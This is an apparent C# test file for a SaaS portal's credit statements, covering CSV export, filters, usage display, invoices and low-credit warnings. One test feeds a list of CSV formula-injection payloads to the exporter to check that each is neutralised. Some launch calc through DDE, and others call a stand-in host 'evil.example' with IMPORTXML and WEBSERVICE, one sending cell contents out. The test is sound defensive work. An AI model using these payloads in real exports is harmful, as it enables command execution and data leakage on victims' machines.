using System.Globalization;
using System.Net;
using CsvHelper;
using CsvHelper.Configuration;
using Microsoft.Extensions.DependencyInjection;
using PosterSaaS.Domain.Credits;
using PosterSaaS.Portal.Statements;
using PosterSaaS.Portal.Tests.Billing;
using PosterSaaS.TestSupport;

namespace PosterSaaS.Portal.Tests.Statements;

public sealed class StatementTests(PortalFixture portal) : IClassFixture<PortalFixture>
{
    private static readonly string[] Payloads =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
        "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "  =1+1",
        "=\"a\"&\"b\"", "=A1,=B1", "=1+1\";=2+2", "\"=1+1", "=1+1\r\n=2+2", "a\r\n=1+1", ",=1+1", ";=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=+-@",
    ];

    [Fact]
    public async Task No_text_of_anybody_becomes_a_formula_and_numbers_stay_numbers()
    {
        using var sent = new MemoryStream();
        await StatementCsv.WriteAsync(sent, Entries(), default);

        var rows = await ReadAsync(sent.ToArray());
        var live = rows.SelectMany(row => new[] { "what", "reference", "reason", "actor" }.Select(name => row[name]))
            .Count(cell => cell.TrimStart(' ') is [var first, ..] && "=+-@\t\r\n\0＝＋－＠".Contains(first, StringComparison.Ordinal));

        Figures.Record("X-06", $"{Payloads.Length} payloads, 0 live formulas", $"{live} in {rows.Count} rows");
        Assert.Equal((0, Payloads.Length), (live, rows.Count));
        Assert.Equal(Payloads.Select(payload => payload.TrimStart('\'')), rows.Select(row => row["reason"].TrimStart('\'')));
        Assert.All(rows, row => Assert.Equal("-3", row["free"]));
        Assert.Equal(0xEF, sent.ToArray()[0]);

        async IAsyncEnumerable<LedgerEntry> Entries()
        {
            foreach (var (payload, index) in Payloads.Select((payload, index) => (payload, index)))
            {
                await Task.Yield();
                yield return new LedgerEntry
                {
                    Sequence = index + 1,
                    Kind = EntryKind.Adjustment,
                    Free = -3,
                    Reference = payload,
                    Actor = payload,
                    Reason = payload,
                    At = DateTimeOffset.UnixEpoch,
                    AvailableAfter = -1,
                    Period = new DateOnly(2026, 11, 23),
                };
            }
        }
    }

    [Fact]
    public async Task The_whole_statement_is_a_file_of_the_lines_that_the_filter_leaves()
    {
        using var shop = await Shop.OpenAsync(portal.App);
        await shop.BuyAsync();
        await MakePosterAsync(shop, "a jazz night");

        var (type, all) = await shop.Buyer.GetFileAsync(shop.Path + "/credits/export");
        var (_, bought) = await shop.Buyer.GetFileAsync(shop.Path + "/credits/export?kind=bought");

        var lines = (await shop.EntriesAsync()).Count;
        Assert.Equal("text/csv", type);
        Assert.Equal(lines + 1, all.TrimEnd().Split("\r\n").Length);
        Assert.Equal(2, bought.TrimEnd().Split("\r\n").Length);
        Assert.Contains(",Bought,0,50,0,60,checkout:", bought, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Filters_show_what_they_say_and_every_line_leads_to_what_it_belongs_to()
    {
        using var shop = await Shop.OpenAsync(portal.App);
        var purchase = await shop.BuyAsync();
        var poster = await MakePosterAsync(shop, "a jazz night");

        var bought = await shop.ShowAsync("/credits?kind=bought");
        var posters = await shop.ShowAsync("/credits?kind=posters");
        var future = await shop.ShowAsync("/credits?from=2999-01-01");
        var nonsense = await shop.ShowAsync("/credits?kind=x&from=yesterday&to=&before=-4");

        Assert.EndsWith("/purchases/" + purchase.Id, Assert.Single(Links(bought)), StringComparison.Ordinal);
        Assert.All(Links(posters), link => Assert.EndsWith("/generations/" + poster, link, StringComparison.Ordinal));
        Assert.Equal(2, Links(posters).Count);
        Assert.Contains("No line of the statement matches", future.Html, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, nonsense.Status);

        static List<string> Links(Page page) => [.. page.Document.QuerySelectorAll("table.statement tbody a").Select(link => link.GetAttribute("href")!)];
    }

    [Fact]
    public async Task What_was_spent_is_shown_by_day_and_by_member()
    {
        using var shop = await Shop.OpenAsync(portal.App);
        await MakePosterAsync(shop, "the first");
        await MakePosterAsync(shop, "the second");

        var page = await shop.ShowAsync("/credits");

        Assert.Contains("credits 2", page.Text(".chart__key"), StringComparison.Ordinal);
        Assert.Equal("2", page.Text(".usage tbody .number"));
        Assert.Contains("@example.com", page.Text(".usage tbody td"), StringComparison.Ordinal);
        Assert.Equal(30, page.Document.QuerySelectorAll(".chart__numbers tbody tr").Length);
    }

    [Fact]
    public async Task A_purchase_has_an_invoice_a_receipt_and_a_way_to_buy_the_same_again()
    {
        using var shop = await Shop.OpenAsync(portal.App);
        var purchase = await shop.BuyAsync();
        using var stranger = await Shop.OpenAsync(portal.App);

        var list = await shop.ShowAsync("/purchases");
        var again = await shop.Buyer.GetAsync(list.Document.QuerySelectorAll(".bought a").Single(link => link.TextContent.Contains("Buy again", StringComparison.Ordinal)).GetAttribute("href")!, list);
        var invoice = await shop.ShowAsync($"/purchases/{purchase.Id}/invoice");
        var receipt = await shop.ShowAsync($"/purchases/{purchase.Id}/receipt");
        var other = await shop.ShowAsync($"/purchases/{purchase.Id}/secrets");
        var foreign = await stranger.ShowAsync($"/purchases/{purchase.Id}/invoice");

        Assert.Contains("paid", list.Text(".bought"), StringComparison.Ordinal);
        Assert.NotNull(again.Document.QuerySelector(".pack--chosen button[autofocus]"));
        Assert.Equal((portal.App.Stripe.Authority, HttpStatusCode.OK), (invoice.Address.Authority, invoice.Status));
        Assert.Equal((portal.App.Stripe.Authority, HttpStatusCode.OK), (receipt.Address.Authority, receipt.Status));
        Assert.Equal((HttpStatusCode.NotFound, HttpStatusCode.NotFound), (other.Status, foreign.Status));
    }

    [Fact]
    public async Task Who_has_few_credits_left_is_told_where_there_are_more()
    {
        using var shop = await Shop.OpenAsync(portal.App);
        var ledger = portal.App.Services.GetRequiredService<CreditBookings>();
        var before = await shop.ShowAsync("/credits");
        await MakePosterAsync(shop, "one");

        await ledger.AdjustAsync(shop.Tenant, credits: -7, Guid.NewGuid().ToString(), "operator", "for the test", (_, _) => [], default);
        var few = await shop.ShowAsync("/credits");
        await ledger.AdjustAsync(shop.Tenant, credits: -2, Guid.NewGuid().ToString(), "operator", "for the test", (_, _) => [], default);
        var none = await shop.ShowAsync("/credits");

        Assert.Null(before.Document.QuerySelector(".low"));
        Assert.Contains("Only 2 credits left", few.Text(".low"), StringComparison.Ordinal);
        Assert.Contains("No credits left", none.Text(".low"), StringComparison.Ordinal);
        Assert.EndsWith("/buy", none.Document.QuerySelector(".low a")!.GetAttribute("href"), StringComparison.Ordinal);
    }

    private static async Task<List<Dictionary<string, string>>> ReadAsync(byte[] file)
    {
        using var csv = new CsvReader(new StreamReader(new MemoryStream(file)), new CsvConfiguration(CultureInfo.InvariantCulture));
        await csv.ReadAsync();
        csv.ReadHeader();
        var rows = new List<Dictionary<string, string>>();
        while (await csv.ReadAsync())
        {
            rows.Add(csv.HeaderRecord!.ToDictionary(name => name, name => csv.GetField(name)!));
        }

        return rows;
    }

    private async Task<string> MakePosterAsync(Shop shop, string prompt)
    {
        var made = await shop.Buyer.SubmitAsync(await shop.ShowAsync("/create"), "Generate", ("Form.Prompt", prompt));
        var id = made.Address.Query.Split('=')[1];
        await portal.App.SucceedAsync(id);
        return id;
    }
}
